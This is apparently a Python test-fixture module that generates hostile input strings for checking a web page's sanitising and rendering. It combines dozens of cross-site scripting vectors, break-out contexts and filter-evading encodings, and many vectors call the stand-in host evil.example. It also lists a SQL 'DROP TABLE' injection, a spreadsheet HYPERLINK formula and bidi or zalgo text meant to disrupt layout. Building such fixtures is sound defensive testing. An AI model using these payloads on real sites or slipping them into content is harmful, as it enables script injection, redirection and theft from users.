"""Hostile texts, made by a grammar of our own: what a page could be led to run, and what could break its look.

Each payload, if a page ran it, would set ``window.hit``, open a dialog or ask another host for something.
"""

import html
import itertools
from collections.abc import Callable, Iterator
from typing import Final
from urllib.parse import quote

ACTS: Final = ("window.hit=1", "alert(1)", "top.hit=1", "fetch('//evil.example/x')", "self['h'+'it']=1")
"""What would be run; each shows itself in the test."""

VECTORS: Final = (
    "<script>{act}</script>",
    "<ScRiPt >{act}</sCrIpT >",
    "<script\n>{act}</script\n>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={act}>",
    "<img/src=x\tonerror='{act}'>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror={act}></style></mtext></math>",
    "<body onload={act}>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:{act}></iframe>",
    "<a href=javascript:{act}>click</a>",
    "<input autofocus onfocus={act}>",
    "<details open ontoggle={act}>",
    "<video><source onerror={act}></video>",
    "<object data=javascript:{act}></object>",
    "<form action=javascript:{act}><button autofocus>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';body{{display:none}}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>",
    "<template><script>{act}</script></template><noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<plaintext>",
    "{{{{constructor.constructor('{act}')()}}}}",
    "${{{act}}}",
    "<%={act}%>",
    "<select><template><option autofocus onfocus={act}></select>",
    "<a id=list name=list href=x onclick={act}><a id=list name=keys>",
    "<xss style=animation-name:x onanimationstart={act} tabindex=1 onfocus={act} autofocus>",
)
"""Ways to be run, where a page takes text for markup; ``{act}`` is what."""

CONTEXTS: Final = (
    "{vector}",
    "শুভ সকাল {vector} ধন্যবাদ",
    '">{vector}',
    "'>{vector}",
    "</bdi></a></li></ol>{vector}",
    "</textarea></title></style></script>{vector}",
    "-->{vector}<!--",
    "]]>{vector}",
)
"""Places out of which a payload would have to break: none, text, attributes, elements, comments."""


def _in_entities(payload: str) -> str:
    return "".join(f"&#x{ord(one):x};" if one in "<>\"'" else one for one in payload)


ENCODINGS: Final[tuple[Callable[[str], str], ...]] = (
    str,
    html.escape,
    _in_entities,
    quote,
    lambda payload: payload.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda payload: payload.replace("<", "＜").replace(">", "＞"),
    lambda payload: payload.replace("script", "scr\u200bipt").replace("=", "\u00ad="),
    lambda payload: "\ufeff" + payload.replace(" ", "\u2028"),
)
"""What a sender may do to a payload so that a careless filter undoes it."""

BREAKERS: Final = (
    "\u202egnp.exe\u202c \u202d\u2066abc\u2069\u2067تيست\u2069",
    "\u202e" * 40 + "উল্টো লেখা" + "\u2066" * 40,
    "অ" * 10_000,
    "W" * 10_000,
    "প্র" + "\u0301" * 500,
    ("ক" + "\u0489" * 30) * 20,
    "Z" + "\u0300\u0316\u0334" * 170,
    "\u200b" * 500 + "x",
    "\ufeff\u2060\u180e\u00ad\u034f\U000e0041\U000e007f",
    "null",
    "undefined",
    "NaN",
    "None",
    "'; DROP TABLE comments; --",
    '=HYPERLINK("//evil.example")',
    "%s%n%d {0} {name} %(x)s [n] [name]",
    "\n" * 300 + "নিচে",
    "\t" * 300 + "ডানে",
    "\x01\x08\x1b[31mলাল\x7f\x85",
    "\ufffd\ufffe\uffff\U0001f468\u200d\U0001f469\u200d\U0001f467" + "\U0001f3ff" * 50,
    "﷽" * 60,
    "𒐫" * 60,
    "\u0e47" * 200,
    "ළ" + "\u0dd2" * 100,
)
"""Texts that run nothing but could move, cover or mirror what stands beside them."""


def payloads() -> Iterator[str]:
    """Every vector in every context, in two encodings and with two acts.

    Encodings and acts go round at different paces, so that each vector meets all of them.
    """
    pairs = itertools.product(VECTORS, CONTEXTS)
    for n, (vector, context) in enumerate(pairs):
        for step in (0, 3):
            act = ACTS[(n + step) % len(ACTS)]
            encode = ENCODINGS[(n // len(CONTEXTS) + n + step) % len(ENCODINGS)]
            yield encode(context.format(vector=vector.format(act=act)))


def hostile_texts() -> list[str]:
    """All payloads and breakers, each once."""
    return list(dict.fromkeys((*payloads(), *BREAKERS)))
